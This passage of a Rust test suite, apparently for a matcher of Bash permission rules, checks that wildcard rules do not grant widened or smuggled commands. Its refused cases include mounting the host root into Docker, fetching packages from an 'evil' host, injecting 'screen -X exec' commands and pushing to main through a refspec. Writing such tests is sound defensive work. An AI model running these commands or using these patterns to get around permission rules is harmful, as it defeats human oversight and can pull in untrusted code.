        ("Bash(psql -d app -c x *)", "Bash(psql -d app -c x postgres *)"),
        ("Bash(git pull origin *)", "Bash(git pull origin -j +main:x *)"),
        ("Bash(git clean -fd notes *)", "Bash(git clean -fd notes --force *)"),
        ("Bash(fish -N *)", "Bash(fish -N -c *)"),
        ("Bash(mvn test *)", "Bash(mvn test deploy *)"),
        ("Bash(uv run *)", "Bash(uv run --extra test --with evil *)"),
        ("Bash(docker run --rm *)", "Bash(docker run --rm -v /:/h *)"),
        ("Bash(git push up HEAD:bot/*)", "Bash(git push up HEAD:bot/*:main)"),
        ("Bash(git clone https://*.acme.com/site)", "Bash(git clone https://* x.acme.com/site)"),
        ("Bash(npx @acme/*)", "Bash(npx @acme/*@https://evil/x)"),
    ] {
        assert!(!covers(outer, inner), "{outer}: {inner}");
    }
    for (outer, inner) in [
        ("Bash(docker *)", "Bash(docker run *)"),
        ("Bash(docker run *)", "Bash(docker run --rm *)"),
        ("Bash(docker --log-level error *)", "Bash(docker --log-level error ps -a *)"),
        ("Bash(git *)", "Bash(git reset *)"),
        ("Bash(git reset *)", "Bash(git reset *)"),
        ("Bash(docker compose -p app *)", "Bash(docker compose -p app run --rm web *)"),
        ("Bash(psql *)", "Bash(psql -h db *)"),
    ] {
        assert!(covers(outer, inner), "{outer}: {inner}");
    }
}

/// A rule that makes a choice by one of its names would grant the other name.
#[test]
fn each_letter_with_a_value_is_known_by_its_long_name() {
    /// Letters without a long name, or with the same one.
    const ALONE: &[(&str, &str)] = &[
        ("kubectl", "v"),
        ("oc", "v"),
        ("pytest", "kmr"),
        ("screen", "ehpSTt"),
        ("ssh-keygen", "abCEfFmNPt"),
        ("tmux", "ElnsSxy"),
        ("npx", "dhqsv"),
    ];
    for name in [Class::Runs, Class::Unknown].into_iter().flat_map(programs::names_of) {
        let Some(known) = programs::named(name).harmless else { continue };
        let alone = ALONE.iter().find(|(program, _)| *program == name).map_or("", |(_, letters)| letters);
        let names = programs::synonyms::of(name);
        let letters = known.values.chars().chain(known.perhaps_valued.chars()).filter(char::is_ascii_alphabetic);
        let missing: String = letters
            .filter(|letter| !alone.contains(*letter) && !names.iter().any(|(name, _)| *name == letter.to_string()))
            .collect();
        assert_eq!(missing, "", "{name}");
    }
}

/// `git stash list` is `git log`, and `git stash show` is `git diff`.
#[test]
fn a_star_of_git_stash_writes_and_runs_nothing() {
    for rule in
        ["git stash *", "git stash list *", "git stash show *", "git stash show -p *", "git stash list --format=*"]
    {
        let head = rule.trim_end_matches(['*', ' ']).replace("--format=", "--format=x");
        let options = ["--output=todo.txt", "--output todo.txt", "--outp=x", "--ext-diff", "--ext", "--textconv"];
        let refused = options.map(|option| format!("{head} {option}"));
        families(&[(rule, &[&head], &refused.each_ref().map(String::as_str))]);
    }
    families(&[
        ("git stash show *", &["git stash show -p", "git stash show --text --stat"], &[]),
        ("git stash show --output=x.diff *", &["git stash show --output=x.diff -p"], &[]),
    ]);
}

#[test]
fn a_star_of_screen_gives_no_command_and_no_shell() {
    for (rule, call) in [
        ("screen -dmS bot-*", "screen -dmS bot-1"),
        ("screen -S bot *", "screen -S bot"),
        ("screen -d -m *", "screen -d -m"),
    ] {
        let options =
            ["-s evil", "-sevil", "-c evil", "-X exec␣evil", "-X stuff id", "-L", "-Logfile x", "-Q x", "-qs evil"];
        let refused = options.map(|option| format!("{call} {option}"));
        families(&[(rule, &[call, &format!("{call} -t x -U")], &refused.each_ref().map(String::as_str))]);
    }
    families(&[
        ("screen -dmS bot ls *", &["screen -dmS bot ls -la -s x"], &[]),
        ("screen -S bot -X stuff *", &["screen -S bot -X stuff x"], &[]),
    ]);
}

#[test]
fn another_place_of_a_copy_must_be_spelled() {
    families(&[
        ("cp a.txt *", &["cp a.txt b", "cp a.txt -p b"], &["cp a.txt x -t src", "cp a.txt x --target-dir=src"]),
        ("mv out/a *", &["mv out/a b"], &["mv out/a -ft src"]),
        ("ln -s a *", &["ln -s a b"], &["ln -s a x -t src"]),
        ("install -m 644 a out/*", &["install -m 644 a out/x"], &["install -m 644 a out/x -tsrc"]),
        ("cp -t out *", &["cp -t out a b"], &["cp -t out a -t src"]),
        ("cp *", &["cp -t out a"], &[]),
    ]);
}

/// Options of their subcommands that only choose what is shown, or check more.
#[test]
fn a_star_stands_for_options_that_choose_what_is_shown() {
    families(&[
        ("helm list *", &["helm list --filter web"], &["helm list --kubeconfig=x"]),
        ("helm status *", &["helm status web --show-resources"], &[]),
        ("helm get values *", &["helm get values web --revision 3"], &[]),
        ("helm lint *", &["helm lint ./chart --strict"], &[]),
        ("helm search repo *", &["helm search repo nginx --versions", "helm search repo nginx -l"], &[]),
        ("helm show values *", &["helm show values a/b --version 1.2"], &["helm show values a/b --repo https://evil"]),
        ("kubectl top *", &["kubectl top pods -n web --containers"], &[]),
        ("oc status *", &["oc status --suggest"], &[]),
        ("oc whoami *", &["oc whoami --show-server"], &[]),
        ("kubectl api-resources *", &["kubectl api-resources --namespaced=false"], &[]),
        ("kubectl events *", &["kubectl events --for pod/x"], &[]),
        ("docker history *", &["docker history --no-trunc x"], &[]),
        ("docker search *", &["docker search --limit 5 x"], &[]),
        ("docker events *", &["docker events --since 5m"], &[]),
        (
            "terraform init *",
            &["terraform init -upgrade", "terraform init -backend=false"],
            &["terraform init -plugin-dir=x"],
        ),
        ("terraform plan *", &["terraform plan -target=x"], &["terraform plan -out=x"]),
        ("gh run view *", &["gh run view --job 5"], &[]),
        ("tmux capture-pane *", &["tmux capture-pane -p -t bot"], &[]),
        ("npm install *", &["npm install --legacy-peer-deps", "npm install --production"], &["npm install --prefix x"]),
        ("npm audit *", &["npm audit --audit-level=high"], &["npm audit fix"]),
        ("cargo search *", &["cargo search x --limit 5"], &["cargo search x --registry evil"]),
    ]);
}
